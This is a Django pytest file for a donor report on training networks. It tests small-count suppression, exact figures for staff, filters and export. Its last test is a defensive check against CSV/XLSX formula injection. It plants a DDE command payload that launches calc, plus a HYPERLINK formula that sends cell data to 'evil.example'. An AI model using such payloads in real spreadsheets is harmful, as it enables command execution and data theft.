"""The donor report: what it counts, and what it hides to protect people."""

import datetime

import pytest
from django.core.management import CommandError, call_command

from cascade.metrics.filters import Filters
from cascade.stories import report


@pytest.fixture
def network(create_training, create_person):
    women = [create_person() for _ in range(6)]
    institute = create_training(participants=women, start_date=datetime.date(2016, 3, 1))
    create_training(kind="step-down", source_training=institute, facilitators=women[:2],
                    start_date=datetime.date(2016, 5, 1), women_count=12, men_count=3)
    create_training(kind="step-down", source_training=institute, facilitators=women[2:3],
                    start_date=datetime.date(2017, 5, 1), women_count=9, men_count=0)
    return institute


def table(built, title):
    return next(t for t in built.tables if t.title == title)


def test_small_counts_of_people_are_suppressed_for_donors(network):
    built = report.build(Filters.parse(region="143"))
    [row] = table(built, "Women and men reached").rows
    assert row[1] == "<5"
    assert "*" in (row[0], row[3]), "the three men cannot be worked out by subtraction"
    assert "<5" in built.subtitle


def test_staff_may_ask_for_exact_figures(network):
    built = report.build(Filters.parse(region="143"), exact=True)
    assert table(built, "Women and men reached").rows == [["27", "3", "0", "30"]]


def test_trainings_are_counted_per_year_without_suppression(network):
    built = report.build(Filters.parse(region="143"))
    assert table(built, "Trainings per year").rows == [["2016", "1", "1", "2"], ["2017", "0", "1", "1"]]


def test_the_period_filter_narrows_the_report(network):
    built = report.build(Filters.parse(region="143", since="2017-01-01"))
    assert table(built, "Trainings per year").rows == [["2017", "0", "1", "1"]]
    assert table(built, "Institutes").rows == []


def test_report_lists_the_institutes(network):
    built = report.build(Filters.parse(country="KZ"))
    [row] = table(built, "Institutes").rows
    assert row[1] == "Kazakhstan" and row[3] == "6"


def test_an_unknown_region_is_refused_by_name(db, tmp_path):
    with pytest.raises(CommandError, match="region: “Atlantis” is not a UN M49 sub-region"):
        call_command("report", "--region", "Atlantis", "--format", "pdf", "--output", str(tmp_path / "r.pdf"))


def test_the_xlsx_report_writes_typed_formulas_as_text_that_no_spreadsheet_runs(create_training, create_organization):
    import io
    import zipfile

    import openpyxl

    host = create_organization(name='@SUM(1+1)*cmd|" /C calc"!A0')
    create_training(city='=HYPERLINK("http://evil.example/?"&A1,"Click")', host=host,
                    start_date=datetime.date(2016, 3, 1))
    data = report.render(report.build(Filters.parse(country="KZ")), "xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no cell is a formula"
    cells = {cell.value: cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row}
    place = next(value for value in cells if isinstance(value, str) and value.startswith("=HYPERLINK"))
    host_cell = cells['@SUM(1+1)*cmd|" /C calc"!A0']
    assert place == '=HYPERLINK("http://evil.example/?"&A1,"Click"), Kazakhstan', "shown as typed"
    for cell in (cells[place], host_cell):
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
